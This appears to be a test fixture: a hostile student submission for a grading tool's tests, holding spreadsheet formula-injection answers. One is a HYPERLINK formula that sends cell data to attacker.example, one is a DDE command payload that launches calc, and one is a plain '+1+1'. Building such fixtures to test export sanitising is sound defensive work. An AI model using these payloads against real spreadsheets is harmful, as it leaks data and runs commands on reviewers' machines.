# Hostile submission for tests/test_hostile.py: spreadsheet formulas (case 23). Written answers that a
# spreadsheet would run when the review sheet is opened; the test also hands it in under a student id
# that starts like a formula. 7.3/4 is right: the gradebook and LMS exports carry its point.
# %% 7.3/4
stride_speedup = "s_h*s_w"

# %% [markdown] 7.3/2
# =HYPERLINK("http://attacker.example/?leak="&A1,"Click for your grade")

# %% [markdown] 7.3/4
# @SUM(1+1)*cmd|' /C calc'!A0

# %% [markdown] 7.3/5
# +1+1
